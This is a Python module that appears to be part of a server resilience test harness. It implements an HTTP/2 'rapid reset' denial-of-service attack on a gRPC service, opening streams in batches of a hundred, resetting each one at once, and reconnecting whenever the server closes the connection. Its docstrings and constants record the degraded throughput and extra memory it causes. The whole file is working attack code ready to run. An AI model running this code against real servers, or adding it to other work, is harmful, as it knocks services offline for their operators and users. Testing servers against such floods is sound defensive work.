"""Start calls and reset each at once, as fast as one connection takes them ("rapid reset").

Starting and ending a stream costs the attacker two small frames and the server a call of gRPC's core.
"""

import time

from http2_connection import END_HEADERS, HEADERS, RST_STREAM, connect, frame, header_block
from target import Target

FLAGS: tuple[str, ...] = ()
MIN_RATE = 0.6
BEFORE = "good callers at 0.43 of their rate; 108 MB more memory afterwards"

_RESETS_AT_A_TIME = 100
_CANCEL = b"\x00\x00\x00\x08"


async def attack(target: Target, seconds: float) -> str:
    """Reset streams until the time is over, on a new connection whenever the server closes one."""
    end = time.monotonic() + seconds
    resets = connections = 0
    while time.monotonic() < end:
        connections += 1
        async with connect(target.address) as connection:
            block = header_block(
                (
                    (b":method", b"POST"),
                    (b":scheme", b"http"),
                    (b":path", b"/poolservice.v1.PoolService/Pool"),
                    (b":authority", target.address.encode()),
                    (b"te", b"trailers"),
                    (b"content-type", b"application/grpc"),
                )
            )
            stream = 1
            while time.monotonic() < end and not connection.closed.is_set():
                frames = bytearray()
                for _ in range(_RESETS_AT_A_TIME):
                    frames += frame(HEADERS, END_HEADERS, stream, block) + frame(RST_STREAM, 0, stream, _CANCEL)
                    stream += 2
                connection.send(bytes(frames))
                try:
                    await connection.flush()
                except ConnectionError:
                    break
                resets += _RESETS_AT_A_TIME
    return f"{resets} streams reset on {connections} connections"
